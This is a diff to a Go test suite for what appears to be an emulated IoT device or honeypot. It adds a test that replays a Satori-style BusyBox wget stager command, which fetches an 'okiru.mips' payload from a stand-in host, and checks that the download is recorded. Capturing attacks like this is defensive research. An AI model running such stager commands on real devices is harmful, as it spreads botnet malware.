@@ -224,3 +224,18 @@ func TestHostileLinesBounded(t *testing.T) {
 		sh.Close()
 	}
 }
+
+// Satori's stager gives wget tftp's options: the device refuses them as
+// BusyBox's wget does, and the payload they name is recorded whole.
+func TestWgetWithTftpOptions(t *testing.T) {
+	d := newTestDevice(t, DefaultProfile(), DefaultLimits())
+	sh := d.NewShell(context.Background())
+	defer sh.Close()
+	r := sh.Run("/bin/busybox wget -g 198.51.100.9 -l /tmp/okiru -r /okiru.mips")
+	if !strings.Contains(string(r.Output), "wget: invalid option -- 'g'") {
+		t.Errorf("output %q", r.Output)
+	}
+	if len(r.Downloads) != 1 || r.Downloads[0].URL != "tftp://198.51.100.9/okiru.mips" {
+		t.Errorf("downloads %+v", r.Downloads)
+	}
+}
